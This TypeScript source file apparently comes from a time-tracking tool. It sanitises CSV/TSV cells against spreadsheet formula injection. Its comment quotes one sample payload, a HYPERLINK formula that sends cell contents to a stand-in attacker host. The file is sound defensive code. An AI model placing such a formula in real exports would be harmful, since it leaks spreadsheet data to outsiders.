// csv and tsv are opened in spreadsheets (`time report -o csv` is meant for invoicing), which read a cell
// starting with "=", "+", "-" or "@" as a formula: a project named `=HYPERLINK("https://evil.example/?"&A1)`
// would send the sheet's contents away when clicked. Some spreadsheets drop a leading tab or CR first. Such a
// cell gets a leading "'", which spreadsheets show as text.
// Whether a cell is text is decided by the value's JSON type, never by how its text looks: a number (-3) is
// left alone, and so is a field the data model declares a decimal written as text (an exact amount, "-12.50").

const FORMULA_START = /^[=+\-@\t\r]/;
const DECIMAL = /^-?\d+(\.\d+)?$/;

/**
 * `text`, the cell written for `value`, as a spreadsheet may safely open it. `decimal`: the field holds
 * decimals written as text; one that is really a decimal number stays as it is.
 */
export function spreadsheetSafe(value: unknown, text: string, decimal = false): string {
  if (typeof value === 'number' || typeof value === 'bigint') return text;
  if (decimal && typeof value === 'string' && DECIMAL.test(value)) return text;
  return FORMULA_START.test(text) ? `'${text}` : text;
}
